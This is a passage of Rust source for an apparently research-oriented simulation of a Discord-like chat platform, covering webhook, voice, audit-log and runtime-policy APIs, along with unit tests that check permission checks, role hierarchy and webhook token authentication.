                channel,
                invoker,
                command: command.to_string(),
                args: args.to_string(),
            });
        }
        Ok(())
    }

    // ---- webhooks ---------------------------------------------------------

    /// Create an incoming webhook on a channel. Requires `MANAGE_WEBHOOKS`.
    pub fn create_webhook(
        &self,
        actor: UserId,
        channel: ChannelId,
        name: &str,
    ) -> PlatformResult<Webhook> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let guild_id =
            *inner
                .channel_guild
                .get(&channel)
                .ok_or_else(|| PlatformError::NotFound {
                    what: channel.to_string(),
                })?;
        let g = inner.guilds.get(&guild_id).expect("consistent");
        let perms = resolve::channel_permissions(g, channel, actor)?;
        if !perms.contains(Permissions::MANAGE_WEBHOOKS) {
            return Err(PlatformError::MissingPermission {
                required: Permissions::MANAGE_WEBHOOKS,
                action: "create a webhook".into(),
            });
        }
        let id = inner.ids.next();
        let hook_user = UserId(inner.ids.next());
        inner.users.insert(
            hook_user,
            User {
                id: hook_user,
                name: format!("{name}#webhook"),
                kind: UserKind::Bot { owner: actor },
                email: String::new(),
                mobile_verified: true,
                guilds_joined: 0,
            },
        );
        let webhook = Webhook {
            id,
            channel,
            name: name.to_string(),
            token: format!("whsec-{id}"),
            user: hook_user,
        };
        inner.webhooks.insert(id, webhook.clone());
        Ok(webhook)
    }

    /// Post through a webhook. **Token possession is the only check** —
    /// this is the documented behaviour the malware ecosystem abuses.
    pub fn execute_webhook(
        &self,
        id: Snowflake,
        token: &str,
        content: &str,
    ) -> PlatformResult<MessageId> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let hook = inner
            .webhooks
            .get(&id)
            .ok_or_else(|| PlatformError::NotFound {
                what: format!("webhook {id}"),
            })?
            .clone();
        if hook.token != token {
            return Err(PlatformError::Invalid {
                reason: "bad webhook token".into(),
            });
        }
        let guild_id =
            *inner
                .channel_guild
                .get(&hook.channel)
                .ok_or_else(|| PlatformError::NotFound {
                    what: hook.channel.to_string(),
                })?;
        let msg_id = MessageId(inner.ids.next());
        let message = Message {
            id: msg_id,
            channel: hook.channel,
            author: hook.user,
            content: content.to_string(),
            attachments: Vec::new(),
            at: inner.clock.now(),
        };
        inner
            .messages
            .entry(hook.channel)
            .or_default()
            .push(message.clone());
        dispatch(
            inner,
            guild_id,
            GatewayEvent::MessageCreate {
                guild: guild_id,
                message,
            },
        );
        Ok(msg_id)
    }

    /// List a channel's webhooks (tokens included — which is exactly why
    /// `MANAGE_WEBHOOKS` is a sensitive permission). Requires it.
    pub fn webhooks(&self, actor: UserId, channel: ChannelId) -> PlatformResult<Vec<Webhook>> {
        let inner = self.inner.lock();
        let guild_id =
            *inner
                .channel_guild
                .get(&channel)
                .ok_or_else(|| PlatformError::NotFound {
                    what: channel.to_string(),
                })?;
        let g = inner.guilds.get(&guild_id).expect("consistent");
        let perms = resolve::channel_permissions(g, channel, actor)?;
        if !perms.contains(Permissions::MANAGE_WEBHOOKS) {
            return Err(PlatformError::MissingPermission {
                required: Permissions::MANAGE_WEBHOOKS,
                action: "list webhooks".into(),
            });
        }
        Ok(inner
            .webhooks
            .values()
            .filter(|w| w.channel == channel)
            .cloned()
            .collect())
    }

    /// Delete a webhook. Requires `MANAGE_WEBHOOKS` on its channel.
    pub fn delete_webhook(&self, actor: UserId, id: Snowflake) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let hook = inner
            .webhooks
            .get(&id)
            .ok_or_else(|| PlatformError::NotFound {
                what: format!("webhook {id}"),
            })?
            .clone();
        let guild_id =
            *inner
                .channel_guild
                .get(&hook.channel)
                .ok_or_else(|| PlatformError::NotFound {
                    what: hook.channel.to_string(),
                })?;
        let g = inner.guilds.get(&guild_id).expect("consistent");
        let perms = resolve::channel_permissions(g, hook.channel, actor)?;
        if !perms.contains(Permissions::MANAGE_WEBHOOKS) {
            return Err(PlatformError::MissingPermission {
                required: Permissions::MANAGE_WEBHOOKS,
                action: "delete a webhook".into(),
            });
        }
        inner.webhooks.remove(&id);
        Ok(())
    }

    // ---- voice --------------------------------------------------------------

    /// Join a voice channel. Requires `CONNECT` and a voice-kind channel.
    pub fn join_voice(&self, actor: UserId, channel: ChannelId) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let guild_id =
            *inner
                .channel_guild
                .get(&channel)
                .ok_or_else(|| PlatformError::NotFound {
                    what: channel.to_string(),
                })?;
        let g = inner.guilds.get(&guild_id).expect("consistent");
        if g.channel(channel)?.kind != ChannelKind::Voice {
            return Err(PlatformError::Invalid {
                reason: "not a voice channel".into(),
            });
        }
        let perms = resolve::channel_permissions(g, channel, actor)?;
        if !perms.contains(Permissions::CONNECT) {
            return Err(PlatformError::MissingPermission {
                required: Permissions::CONNECT,
                action: "connect to voice".into(),
            });
        }
        let members = inner.voice_states.entry(channel).or_default();
        if !members.contains(&actor) {
            members.push(actor);
        }
        Ok(())
    }

    /// Leave a voice channel (idempotent).
    pub fn leave_voice(&self, actor: UserId, channel: ChannelId) {
        let mut inner = self.inner.lock();
        if let Some(members) = inner.voice_states.get_mut(&channel) {
            members.retain(|u| *u != actor);
        }
    }

    /// Transmit audio in a joined voice channel. Requires `SPEAK`, presence
    /// in the channel, and not being server-muted.
    pub fn speak(&self, actor: UserId, channel: ChannelId) -> PlatformResult<()> {
        let inner = self.inner.lock();
        let guild_id =
            *inner
                .channel_guild
                .get(&channel)
                .ok_or_else(|| PlatformError::NotFound {
                    what: channel.to_string(),
                })?;
        let g = inner.guilds.get(&guild_id).expect("consistent");
        if !inner
            .voice_states
            .get(&channel)
            .map(|m| m.contains(&actor))
            .unwrap_or(false)
        {
            return Err(PlatformError::Invalid {
                reason: "not connected to this voice channel".into(),
            });
        }
        if inner
            .voice_muted
            .get(&guild_id)
            .map(|m| m.contains(&actor))
            .unwrap_or(false)
        {
            return Err(PlatformError::Invalid {
                reason: "server-muted".into(),
            });
        }
        let perms = resolve::channel_permissions(g, channel, actor)?;
        if !perms.contains(Permissions::SPEAK) {
            return Err(PlatformError::MissingPermission {
                required: Permissions::SPEAK,
                action: "speak in voice".into(),
            });
        }
        Ok(())
    }

    /// Server-mute a member. Requires `MUTE_MEMBERS`.
    pub fn mute_member(
        &self,
        actor: UserId,
        guild: GuildId,
        subject: UserId,
    ) -> PlatformResult<()> {
        let mut inner = self.inner.lock();
        let inner = &mut *inner;
        let g = inner
            .guilds
            .get_mut(&guild)
            .ok_or_else(|| PlatformError::NotFound {
                what: guild.to_string(),
            })?;
        require(g, actor, Permissions::MUTE_MEMBERS, "server-mute a member")?;
        g.member(subject)?;
        let muted = inner.voice_muted.entry(guild).or_default();
        if !muted.contains(&subject) {
            muted.push(subject);
        }
        Ok(())
    }

    /// Members currently in a voice channel.
    pub fn voice_members(&self, channel: ChannelId) -> Vec<UserId> {
        self.inner
            .lock()
            .voice_states
            .get(&channel)
            .cloned()
            .unwrap_or_default()
    }

    // ---- introspection ---------------------------------------------------

    /// Audit log for a guild. Requires `VIEW_AUDIT_LOG`.
    pub fn audit_log(&self, actor: UserId, guild: GuildId) -> PlatformResult<Vec<AuditEntry>> {
        let inner = self.inner.lock();
        let g = inner
            .guilds
            .get(&guild)
            .ok_or_else(|| PlatformError::NotFound {
                what: guild.to_string(),
            })?;
        require(g, actor, Permissions::VIEW_AUDIT_LOG, "view the audit log")?;
        Ok(inner.audit.for_guild(guild).into_iter().cloned().collect())
    }

    /// How many guilds a bot account is in — the "guild count" the listing
    /// site displays.
    pub fn bot_guild_count(&self, bot: UserId) -> usize {
        let inner = self.inner.lock();
        inner
            .guilds
            .values()
            .filter(|g| g.members.contains_key(&bot))
            .count()
    }

    /// Effective permissions of `user` in `channel` (public wrapper over
    /// [`resolve::channel_permissions`] for bot SDKs and tests).
    pub fn effective_permissions(
        &self,
        user: UserId,
        channel: ChannelId,
    ) -> PlatformResult<Permissions> {
        let inner = self.inner.lock();
        let guild_id =
            *inner
                .channel_guild
                .get(&channel)
                .ok_or_else(|| PlatformError::NotFound {
                    what: channel.to_string(),
                })?;
        let g = inner.guilds.get(&guild_id).expect("consistent");
        resolve::channel_permissions(g, channel, user)
    }

    /// The shared virtual clock.
    pub fn clock(&self) -> VirtualClock {
        self.inner.lock().clock.clone()
    }

    /// Switch the platform's runtime policy (see [`crate::enforcer`]).
    ///
    /// Discord runs [`RuntimePolicy::Unenforced`]; flipping to
    /// [`RuntimePolicy::Enforced`] retrofits the Slack/Teams-style runtime
    /// enforcer the paper's §6 contrasts against.
    pub fn set_runtime_policy(&self, policy: RuntimePolicy) {
        self.inner.lock().policy = policy;
    }

    /// The current runtime policy.
    pub fn runtime_policy(&self) -> RuntimePolicy {
        self.inner.lock().policy
    }

    /// Toggle "Bots can Snoop"-style per-message least-privilege delivery:
    /// when on, a bot's gateway receives a message event only if the
    /// message @-mentions the bot or its first token matches one of the
    /// bot's [registered commands](Self::register_bot_commands). History
    /// reads and attachment delivery are untouched — this mediates message
    /// fan-out only, so its effect on honeypot detections can be measured
    /// separately from the full runtime enforcer.
    pub fn set_least_privilege_delivery(&self, on: bool) {
        self.inner.lock().least_privilege = on;
    }

    /// Whether least-privilege delivery is on.
    pub fn least_privilege_delivery(&self) -> bool {
        self.inner.lock().least_privilege
    }

    /// Declare the command words a bot answers to (e.g. `!kick`). Under
    /// least-privilege delivery these are the only non-mention messages the
    /// bot receives; with the toggle off they are advisory metadata.
    pub fn register_bot_commands(&self, bot: UserId, commands: Vec<String>) {
        self.inner.lock().bot_commands.insert(bot, commands);
    }

    /// The registered command words of a bot.
    pub fn registered_commands(&self, bot: UserId) -> Vec<String> {
        self.inner
            .lock()
            .bot_commands
            .get(&bot)
            .cloned()
            .unwrap_or_default()
    }
}

/// Check a guild-level permission for `actor`, honouring admin/owner.
fn require(
    guild: &Guild,
    actor: UserId,
    required: Permissions,
    action: &str,
) -> PlatformResult<()> {
    let perms = resolve::guild_permissions(guild, actor)?;
    if perms.contains(required) {
        Ok(())
    } else {
        Err(PlatformError::MissingPermission {
            required,
            action: action.to_string(),
        })
    }
}

/// Send an event to every bot member of `guild` with an open gateway.
fn dispatch(inner: &mut Inner, guild: GuildId, event: GatewayEvent) {
    dispatch_except(inner, guild, event, None);
}

/// Like [`dispatch`] but optionally skipping one recipient.
///
/// Message events pass through the runtime enforcer per recipient: under
/// [`RuntimePolicy::Enforced`] a bot only sees messages that address it,
/// and attachments are stripped from what it does see.
fn dispatch_except(inner: &mut Inner, guild: GuildId, event: GatewayEvent, except: Option<UserId>) {
    let Some(g) = inner.guilds.get(&guild) else {
        return;
    };
    let policy = inner.policy;
    for uid in g.members.keys() {
        if Some(*uid) == except {
            continue;
        }
        if let Some(user) = inner.users.get(uid) {
            if user.is_bot() {
                if let Some(tx) = inner.gateways.get(uid) {
                    if let GatewayEvent::MessageCreate {
                        guild: g_id,
                        message,
                    } = &event
                    {
                        let slug = user
                            .name
                            .split('#')
                            .next()
                            .unwrap_or(&user.name)
                            .to_ascii_lowercase();
                        if inner.least_privilege {
                            let commands = inner
                                .bot_commands
                                .get(uid)
                                .map(Vec::as_slice)
                                .unwrap_or(&[]);
                            if !crate::enforcer::least_privilege_delivers(message, &slug, commands)
                            {
                                continue;
                            }
                        }
                        if policy.applies_to(true) {
                            if !policy.delivers_message(message, &slug) {
                                continue;
                            }
                            let _ = tx.send(GatewayEvent::MessageCreate {
                                guild: *g_id,
                                message: policy.sanitize(message.clone()),
                            });
                            continue;
                        }
                    }
                    let _ = tx.send(event.clone());
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::oauth::OAuthScope;

    struct World {
        platform: Platform,
        owner: UserId,
        alice: UserId,
        guild: GuildId,
        channel: ChannelId,
    }

    fn world() -> World {
        let platform = Platform::new(VirtualClock::new());
        let owner = platform.register_user("owner#1", "o@example.org");
        let alice = platform.register_user("alice#2", "a@example.org");
        let guild = platform
            .create_guild(owner, "w", GuildVisibility::Public)
            .unwrap();
        platform.join_guild(alice, guild, None).unwrap();
        let channel = platform.default_channel(guild).unwrap();
        World {
            platform,
            owner,
            alice,
            guild,
            channel,
        }
    }

    fn install_test_bot(w: &World, perms: Permissions) -> (UserId, Receiver<GatewayEvent>) {
        let app = w
            .platform
            .register_bot_application(w.owner, "TestBot")
            .unwrap();
        let rx = w.platform.connect_gateway(app.bot_user).unwrap();
        let invite = InviteUrl::bot(app.client_id, perms);
        let bot = w
            .platform
            .install_bot(w.owner, w.guild, &invite, true)
            .unwrap();
        (bot, rx)
    }

    #[test]
    fn messaging_flow_and_history() {
        let w = world();
        let id = w
            .platform
            .send_message(w.alice, w.channel, "hello", vec![])
            .unwrap();
        let history = w.platform.read_history(w.alice, w.channel).unwrap();
        assert_eq!(history.len(), 1);
        assert_eq!(history[0].id, id);
        assert_eq!(history[0].content, "hello");
    }

    #[test]
    fn sending_requires_permission() {
        let w = world();
        // Take SEND_MESSAGES away from @everyone.
        let everyone = w.platform.guild(w.guild).unwrap().everyone_role;
        let base = Permissions::everyone_defaults().difference(Permissions::SEND_MESSAGES);
        w.platform
            .edit_role(w.owner, w.guild, everyone, base)
            .unwrap();
        let err = w
            .platform
            .send_message(w.alice, w.channel, "hi", vec![])
            .unwrap_err();
        assert!(matches!(err, PlatformError::MissingPermission { .. }));
        // Owner still can (owner override).
        assert!(w
            .platform
            .send_message(w.owner, w.channel, "hi", vec![])
            .is_ok());
    }

    #[test]
    fn attachments_need_attach_files() {
        let w = world();
        let everyone = w.platform.guild(w.guild).unwrap().everyone_role;
        let base = Permissions::everyone_defaults().difference(Permissions::ATTACH_FILES);
        w.platform
            .edit_role(w.owner, w.guild, everyone, base)
            .unwrap();
        let att = Attachment::new("x.pdf", "application/pdf", vec![0u8]);
        let err = w
            .platform
            .send_message(w.alice, w.channel, "doc", vec![att])
            .unwrap_err();
        assert!(matches!(err, PlatformError::MissingPermission { .. }));
    }

    #[test]
    fn install_requires_manage_guild_and_captcha() {
        let w = world();
        let app = w.platform.register_bot_application(w.owner, "B").unwrap();
        let invite = InviteUrl::bot(app.client_id, Permissions::SEND_MESSAGES);
        // Alice lacks MANAGE_GUILD.
        let err = w
            .platform
            .install_bot(w.alice, w.guild, &invite, true)
            .unwrap_err();
        assert!(matches!(err, PlatformError::MissingPermission { .. }));
        // Captcha unsolved.
        let err = w
            .platform
            .install_bot(w.owner, w.guild, &invite, false)
            .unwrap_err();
        assert_eq!(err, PlatformError::CaptchaRequired);
        // Owner with captcha: ok.
        let bot = w
            .platform
            .install_bot(w.owner, w.guild, &invite, true)
            .unwrap();
        assert_eq!(w.platform.bot_guild_count(bot), 1);
    }

    #[test]
    fn install_creates_managed_role_with_requested_permissions() {
        let w = world();
        let (bot, _rx) =
            install_test_bot(&w, Permissions::KICK_MEMBERS | Permissions::SEND_MESSAGES);
        let g = w.platform.guild(w.guild).unwrap();
        let member = g.member(bot).unwrap();
        assert_eq!(member.roles.len(), 1);
        let role = g.role(member.roles[0]).unwrap();
        assert!(role.permissions.contains(Permissions::KICK_MEMBERS));
        assert!(role.position > 0);
    }

    #[test]
    fn whitelist_gated_scopes() {
        let w = world();
        let app = w.platform.register_bot_application(w.owner, "Spy").unwrap();
        let invite =
            InviteUrl::bot(app.client_id, Permissions::NONE).with_scope(OAuthScope::MessagesRead);
        let err = w
            .platform
            .install_bot(w.owner, w.guild, &invite, true)
            .unwrap_err();
        assert!(matches!(err, PlatformError::OAuth { .. }));
        w.platform.whitelist_application(app.client_id).unwrap();
        assert!(w
            .platform
            .install_bot(w.owner, w.guild, &invite, true)
            .is_ok());
    }

    #[test]
    fn testing_scopes_rejected_outright() {
        let w = world();
        let app = w
            .platform
            .register_bot_application(w.owner, "RpcBot")
            .unwrap();
        let invite = InviteUrl::bot(app.client_id, Permissions::NONE).with_scope(OAuthScope::Rpc);
        let err = w
            .platform
            .install_bot(w.owner, w.guild, &invite, true)
            .unwrap_err();
        assert!(matches!(err, PlatformError::OAuth { .. }));
    }

    #[test]
    fn gateway_receives_messages_after_install() {
        let w = world();
        let (_bot, rx) = install_test_bot(&w, Permissions::SEND_MESSAGES);
        // GuildCreate arrives on install.
        let ev = rx.try_recv().unwrap();
        assert!(matches!(ev, GatewayEvent::GuildCreate { .. }));
        w.platform
            .send_message(w.alice, w.channel, "hello bot", vec![])
            .unwrap();
        let ev = rx.try_recv().unwrap();
        match ev {
            GatewayEvent::MessageCreate { message, .. } => assert_eq!(message.content, "hello bot"),
            other => panic!("expected MessageCreate, got {other:?}"),
        }
    }

    #[test]
    fn kick_checks_permission_and_hierarchy() {
        let w = world();
        // Alice cannot kick (no permission).
        let err = w.platform.kick(w.alice, w.guild, w.owner).unwrap_err();
        assert!(matches!(err, PlatformError::MissingPermission { .. }));
        // An admin bot can kick alice…
        let (bot, _rx) = install_test_bot(&w, Permissions::ADMINISTRATOR);
        w.platform.kick(bot, w.guild, w.alice).unwrap();
        assert!(w.platform.guild(w.guild).unwrap().member(w.alice).is_err());
        // …but not the owner (rule 4 / owner protection).
        let err = w.platform.kick(bot, w.guild, w.owner).unwrap_err();
        assert!(matches!(err, PlatformError::HierarchyViolation { .. }));
    }

    #[test]
    fn private_guild_needs_invite() {
        let platform = Platform::new(VirtualClock::new());
        let owner = platform.register_user("o", "o@x.y");
        let alice = platform.register_user("a", "a@x.y");
        let guild = platform
            .create_guild(owner, "secret", GuildVisibility::Private)
            .unwrap();
        assert_eq!(
            platform.join_guild(alice, guild, None).unwrap_err(),
            PlatformError::InviteRequired
        );
        assert_eq!(
            platform
                .join_guild(alice, guild, Some("bogus"))
                .unwrap_err(),
            PlatformError::InviteRequired
        );
        let code = platform.create_invite(owner, guild).unwrap();
        platform.join_guild(alice, guild, Some(&code)).unwrap();
        assert!(platform.guild(guild).unwrap().member(alice).is_ok());
    }

    #[test]
    fn unverified_account_flagged_after_many_joins() {
        let platform = Platform::new(VirtualClock::new());
        let owner = platform.register_user("o", "o@x.y");
        let persona = platform.register_user("p", "p@x.y");
        let mut flagged = false;
        for i in 0..UNVERIFIED_GUILD_LIMIT + 2 {
            let g = platform
                .create_guild(owner, &format!("g{i}"), GuildVisibility::Public)
                .unwrap();
            match platform.join_guild(persona, g, None) {
                Ok(()) => {}
                Err(PlatformError::VerificationRequired) => {
                    flagged = true;
                    // Manual mobile verification unblocks (as in the paper).
                    platform.verify_mobile(persona).unwrap();
                    platform.join_guild(persona, g, None).unwrap();
                }
                Err(other) => panic!("unexpected error {other}"),
            }
        }
        assert!(flagged, "anti-abuse flag should have fired");
    }

    #[test]
    fn bots_cannot_join_directly() {
        let w = world();
        let app = w.platform.register_bot_application(w.owner, "B").unwrap();
        let err = w
            .platform
            .join_guild(app.bot_user, w.guild, None)
            .unwrap_err();
        assert!(matches!(err, PlatformError::Invalid { .. }));
    }

    #[test]
    fn role_lifecycle_with_checks() {
        let w = world();
        let role = w
            .platform
            .create_role(w.owner, w.guild, "Mod", 5, Permissions::KICK_MEMBERS)
            .unwrap();
        w.platform
            .grant_role(w.owner, w.guild, w.alice, role)
            .unwrap();
        let g = w.platform.guild(w.guild).unwrap();
        assert!(g.member(w.alice).unwrap().roles.contains(&role));
        // Alice (Mod, pos 5) cannot edit her own role upward (rule 2).
        let err = w
            .platform
            .edit_role(w.alice, w.guild, role, Permissions::ADMINISTRATOR)
            .unwrap_err();
        assert!(matches!(
            err,
            PlatformError::MissingPermission { .. } | PlatformError::HierarchyViolation { .. }
        ));
    }

    #[test]
    fn delete_message_rules() {
        let w = world();
        let mine = w
            .platform
            .send_message(w.alice, w.channel, "mine", vec![])
            .unwrap();
        let theirs = w
            .platform
            .send_message(w.owner, w.channel, "theirs", vec![])
            .unwrap();
        // Own message: fine.
        w.platform.delete_message(w.alice, w.channel, mine).unwrap();
        // Someone else's without MANAGE_MESSAGES: denied.
        let err = w
            .platform
            .delete_message(w.alice, w.channel, theirs)
            .unwrap_err();
        assert!(matches!(err, PlatformError::MissingPermission { .. }));
        // Owner can delete anything.
        w.platform
            .delete_message(w.owner, w.channel, theirs)
            .unwrap();
        assert!(w
            .platform
            .read_history(w.owner, w.channel)
            .unwrap()
            .is_empty());
    }

    #[test]
    fn audit_log_requires_permission_and_records() {
        let w = world();
        let (bot, _rx) = install_test_bot(&w, Permissions::ADMINISTRATOR);
        w.platform.kick(bot, w.guild, w.alice).unwrap();
        let err = w.platform.audit_log(w.alice, w.guild).unwrap_err();
        assert!(matches!(
            err,
            PlatformError::NotAMember | PlatformError::MissingPermission { .. }
        ));
        let log = w.platform.audit_log(w.owner, w.guild).unwrap();
        assert!(log
            .iter()
            .any(|e| matches!(e.action, AuditAction::BotInstalled { .. })));
        assert!(log
            .iter()
            .any(|e| matches!(e.action, AuditAction::MemberKicked { .. })));
    }

    #[test]
    fn nickname_rules() {
        let w = world();
        // Self-change allowed by default.
        w.platform
            .change_nickname(w.alice, w.guild, w.alice, Some("Ally".into()))
            .unwrap();
        // Changing someone else's needs MANAGE_NICKNAMES.
        let err = w
            .platform
            .change_nickname(w.alice, w.guild, w.owner, Some("Bossy".into()))
            .unwrap_err();
        assert!(matches!(err, PlatformError::MissingPermission { .. }));
        // Owner can rename alice.
        w.platform
            .change_nickname(w.owner, w.guild, w.alice, Some("A2".into()))
            .unwrap();
        let g = w.platform.guild(w.guild).unwrap();
        assert_eq!(g.member(w.alice).unwrap().nickname.as_deref(), Some("A2"));
    }

    #[test]
    fn reinstall_is_idempotent() {
        let w = world();
        let app = w.platform.register_bot_application(w.owner, "B").unwrap();
        let invite = InviteUrl::bot(app.client_id, Permissions::SEND_MESSAGES);
        let a = w
            .platform
            .install_bot(w.owner, w.guild, &invite, true)
            .unwrap();
        let b = w
            .platform
            .install_bot(w.owner, w.guild, &invite, true)
            .unwrap();
        assert_eq!(a, b);
        let g = w.platform.guild(w.guild).unwrap();
        // Only one managed role was created.
        assert_eq!(g.member(a).unwrap().roles.len(), 1);
    }

    #[test]
    fn slash_commands_platform_checks_the_invoker() {
        use crate::slash::SlashCommand;
        let w = world();
        let app = w
            .platform
            .register_bot_application(w.owner, "SlashMod")
            .unwrap();
        let rx = w.platform.connect_gateway(app.bot_user).unwrap();
        w.platform
            .install_bot(
                w.owner,
                w.guild,
                &InviteUrl::bot(app.client_id, Permissions::KICK_MEMBERS),
                true,
            )
            .unwrap();
        let _ = rx.try_recv(); // GuildCreate
        w.platform
            .register_slash_commands(
                w.owner,
                app.client_id,
                vec![
                    SlashCommand::public("ping", "pong"),
                    SlashCommand::gated("kick", "remove a member", Permissions::KICK_MEMBERS),
                ],
            )
            .unwrap();
        assert_eq!(w.platform.slash_commands(app.client_id).len(), 2);

        // Alice may /ping but not /kick — the PLATFORM rejects her, the
        // backend never receives the interaction.
        w.platform
            .invoke_slash(w.alice, w.channel, app.client_id, "ping", "")
            .unwrap();
        let err = w
            .platform
            .invoke_slash(w.alice, w.channel, app.client_id, "kick", "123")
            .unwrap_err();
        assert!(matches!(err, PlatformError::MissingPermission { .. }));
        // The owner passes the gate.
        w.platform
            .invoke_slash(w.owner, w.channel, app.client_id, "kick", "123")
            .unwrap();

        let mut delivered = Vec::new();
        while let Ok(ev) = rx.try_recv() {
            if let GatewayEvent::InteractionCreate {
                command, invoker, ..
            } = ev
            {
                delivered.push((command, invoker));
            }
        }
        assert_eq!(
            delivered,
            vec![("ping".to_string(), w.alice), ("kick".to_string(), w.owner)],
            "only authorized interactions reach the backend"
        );
    }

    #[test]
    fn slash_registration_is_owner_only() {
        use crate::slash::SlashCommand;
        let w = world();
        let app = w.platform.register_bot_application(w.owner, "S").unwrap();
        let err = w
            .platform
            .register_slash_commands(w.alice, app.client_id, vec![SlashCommand::public("x", "y")])
            .unwrap_err();
        assert!(matches!(err, PlatformError::Invalid { .. }));
    }

    #[test]
    fn slash_invocation_requires_installed_bot_and_known_command() {
        use crate::slash::SlashCommand;
        let w = world();
        let app = w.platform.register_bot_application(w.owner, "S").unwrap();
        w.platform
            .register_slash_commands(
                w.owner,
                app.client_id,
                vec![SlashCommand::public("ping", "p")],
            )
            .unwrap();
        // Not installed yet.
        let err = w
            .platform
            .invoke_slash(w.alice, w.channel, app.client_id, "ping", "")
            .unwrap_err();
        assert!(matches!(err, PlatformError::NotFound { .. }));
        w.platform
            .install_bot(
                w.owner,
                w.guild,
                &InviteUrl::bot(app.client_id, Permissions::NONE),
                true,
            )
            .unwrap();
        // Unknown command.
        let err = w
            .platform
            .invoke_slash(w.alice, w.channel, app.client_id, "dance", "")
            .unwrap_err();
        assert!(matches!(err, PlatformError::NotFound { .. }));
        // Known command now works.
        w.platform
            .invoke_slash(w.alice, w.channel, app.client_id, "ping", "")
            .unwrap();
    }

    #[test]
    fn webhook_lifecycle_and_token_only_auth() {
        let w = world();
        // Alice lacks MANAGE_WEBHOOKS.
        let err = w
            .platform
            .create_webhook(w.alice, w.channel, "ci-hook")
            .unwrap_err();
        assert!(matches!(err, PlatformError::MissingPermission { .. }));
        let hook = w
            .platform
            .create_webhook(w.owner, w.channel, "ci-hook")
            .unwrap();
        // Execution needs no account, only the token — the abuse surface.
        let id = w
            .platform
            .execute_webhook(hook.id, &hook.token, "build passed")
            .unwrap();
        let history = w.platform.read_history(w.owner, w.channel).unwrap();
        assert_eq!(history.last().unwrap().id, id);
        assert_eq!(history.last().unwrap().author, hook.user);
        // A stolen-but-wrong token is rejected.
        let err = w
            .platform
            .execute_webhook(hook.id, "whsec-guess", "spam")
            .unwrap_err();
        assert!(matches!(err, PlatformError::Invalid { .. }));
        // Listing requires MANAGE_WEBHOOKS (tokens are included).
        assert!(w.platform.webhooks(w.alice, w.channel).is_err());
        assert_eq!(w.platform.webhooks(w.owner, w.channel).unwrap().len(), 1);
        // Deletion is permission-gated and effective.
        assert!(w.platform.delete_webhook(w.alice, hook.id).is_err());
        w.platform.delete_webhook(w.owner, hook.id).unwrap();
        assert!(w
            .platform
            .execute_webhook(hook.id, &hook.token, "late")
            .is_err());
    }

    #[test]
    fn webhook_messages_reach_bot_gateways() {
        let w = world();
        let (_bot, rx) = install_test_bot(&w, Permissions::SEND_MESSAGES);
        let _ = rx.try_recv(); // GuildCreate
        let hook = w
            .platform
            .create_webhook(w.owner, w.channel, "feed")
            .unwrap();
        w.platform
            .execute_webhook(hook.id, &hook.token, "webhook says hi")
            .unwrap();
        match rx.try_recv().unwrap() {
            GatewayEvent::MessageCreate { message, .. } => {
                assert_eq!(message.content, "webhook says hi");
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn voice_flow_connect_speak_mute() {
        let w = world();
        let voice = w
            .platform
            .create_channel(w.owner, w.guild, "lounge", ChannelKind::Voice)
            .unwrap();
        // Voice APIs reject text channels.
        assert!(w.platform.join_voice(w.alice, w.channel).is_err());
        // Default @everyone has CONNECT + SPEAK.
        w.platform.join_voice(w.alice, voice).unwrap();
        assert_eq!(w.platform.voice_members(voice), vec![w.alice]);
        w.platform.speak(w.alice, voice).unwrap();
        // Speaking without joining fails.
        assert!(w.platform.speak(w.owner, voice).is_err());
        // Server-mute silences alice but leaves her connected.
        assert!(
            w.platform.mute_member(w.alice, w.guild, w.alice).is_err(),
            "no MUTE_MEMBERS"
        );
        w.platform.mute_member(w.owner, w.guild, w.alice).unwrap();
        assert!(w.platform.speak(w.alice, voice).is_err());
        assert_eq!(w.platform.voice_members(voice), vec![w.alice]);
        // Leave is idempotent.
        w.platform.leave_voice(w.alice, voice);
        w.platform.leave_voice(w.alice, voice);
        assert!(w.platform.voice_members(voice).is_empty());
    }

    #[test]
    fn voice_connect_denied_without_permission() {
        let w = world();
        let voice = w
            .platform
            .create_channel(w.owner, w.guild, "vip", ChannelKind::Voice)
            .unwrap();
        let everyone = w.platform.guild(w.guild).unwrap().everyone_role;
        let stripped = Permissions::everyone_defaults().difference(Permissions::CONNECT);
        w.platform
            .edit_role(w.owner, w.guild, everyone, stripped)
            .unwrap();
        let err = w.platform.join_voice(w.alice, voice).unwrap_err();
        assert!(matches!(err, PlatformError::MissingPermission { .. }));
    }

    #[test]
    fn reactions_respect_permissions() {
        let w = world();
        let id = w
            .platform
            .send_message(w.owner, w.channel, "react to me", vec![])
            .unwrap();
        // Default @everyone includes ADD_REACTIONS.
        w.platform
            .add_reaction(w.alice, w.channel, id, Emoji::Unicode("👍".into()))
            .unwrap();
        // External emoji needs USE_EXTERNAL_EMOJIS, which @everyone lacks.
        let err = w
            .platform
            .add_reaction(w.alice, w.channel, id, Emoji::External("pepega".into()))
            .unwrap_err();
        assert!(matches!(err, PlatformError::MissingPermission { .. }));
        // Owner bypasses.
        w.platform
            .add_reaction(w.owner, w.channel, id, Emoji::External("pepega".into()))
            .unwrap();
        let reactions = w.platform.reactions(w.alice, w.channel, id).unwrap();
        assert_eq!(reactions.len(), 2);
        // Duplicate reactions are idempotent.
        w.platform
            .add_reaction(w.alice, w.channel, id, Emoji::Unicode("👍".into()))
            .unwrap();
        assert_eq!(
            w.platform.reactions(w.alice, w.channel, id).unwrap().len(),
            2
        );
        // Reacting to a ghost message fails.
        let ghost = MessageId(crate::snowflake::Snowflake(999_999));
        assert!(w
            .platform
            .add_reaction(w.alice, w.channel, ghost, Emoji::Unicode("x".into()))
            .is_err());
    }

    #[test]
    fn reactions_denied_without_add_reactions() {
        let w = world();
        let id = w
            .platform
            .send_message(w.owner, w.channel, "m", vec![])
            .unwrap();
        let everyone = w.platform.guild(w.guild).unwrap().everyone_role;
        let stripped = Permissions::everyone_defaults().difference(Permissions::ADD_REACTIONS);
        w.platform
            .edit_role(w.owner, w.guild, everyone, stripped)
            .unwrap();
        let err = w
            .platform
            .add_reaction(w.alice, w.channel, id, Emoji::Unicode("👍".into()))
            .unwrap_err();
        assert!(matches!(err, PlatformError::MissingPermission { .. }));
    }

    #[test]
